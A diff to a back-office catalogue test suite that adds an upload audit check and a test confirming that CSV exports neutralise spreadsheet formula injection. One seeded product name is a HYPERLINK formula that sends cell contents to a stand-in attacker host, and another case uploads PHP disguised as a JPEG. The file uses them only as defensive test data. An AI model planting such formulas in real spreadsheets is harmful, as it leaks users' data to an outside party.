@@ -107,6 +107,8 @@ describe.each(databaseKinds)('el catálogo del back office en %s', (kind) => {
     const served = await t.app.inject(`/product/${name}`);
     const stored = await sharp(served.rawPayload).metadata();
     expect([served.statusCode, stored.format, stored.width, stored.exif]).toEqual([200, 'webp', 1920, undefined]);
+    // Who uploaded which picture is on the audit log, before any product uses it.
+    expect((await audit('image')).find((row) => row.entity_id === name)).toMatchObject({ action: 'upload', after: { kind: 'product', name, bytes: photo.length } });
 
     const disguised = form(Buffer.from('<?php echo "hola"; ?>'), 'a.jpg', 'image/jpeg');
     const notAnImage = await t.app.inject({ method: 'POST', url: '/api/backoffice/images/banner', payload: disguised.payload, headers: { ...disguised.headers, ...as(admin) } });
@@ -216,6 +218,21 @@ describe.each(databaseKinds)('el catálogo del back office en %s', (kind) => {
 
     expect((await audit('brand')).map((row) => row.action)).toEqual(['create', 'update']);
     expect((await audit('category')).map((row) => row.action)).toEqual(['create']);
+  });
+
+  it('exports a name a spreadsheet would run as a formula as text, and takes the file back unchanged', async () => {
+    const names = ['=HYPERLINK("https://atacante.example/?d="&A1,"Ver oferta")', '+54 Parlante', '-Oferta-', '@SUM(1+1)'];
+    const ids = [5, 6, 7, 8];
+    for (const [i, name] of names.entries()) await t.db.query('UPDATE products SET name = $1 WHERE id = $2', [name, ids[i]]);
+    const exported = (await call('GET', '/api/backoffice/products/prices-and-stock.csv', admin)).body;
+    const lines = exported.trim().split('\n');
+    expect(lines.find((line) => line.startsWith('5,'))).toContain(`"'=HYPERLINK(""https://atacante.example/?d=""&A1,""Ver oferta"")"`);
+    for (const id of [6, 7, 8]) expect(lines.find((line) => line.startsWith(`${id},`))).toMatch(new RegExp(`^${id},'[+@-]`));
+    // No cell of the file starts a formula.
+    for (const line of lines.slice(1)) expect(line.split(',')[1]).not.toMatch(/^[=+\-@]/);
+
+    const again = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: exported });
+    expect(again.json()).toMatchObject({ ok: true, count: 0 });
   });
 
   it('exports prices and stock, imports a good file, and refuses a file with errors whole', async () => {
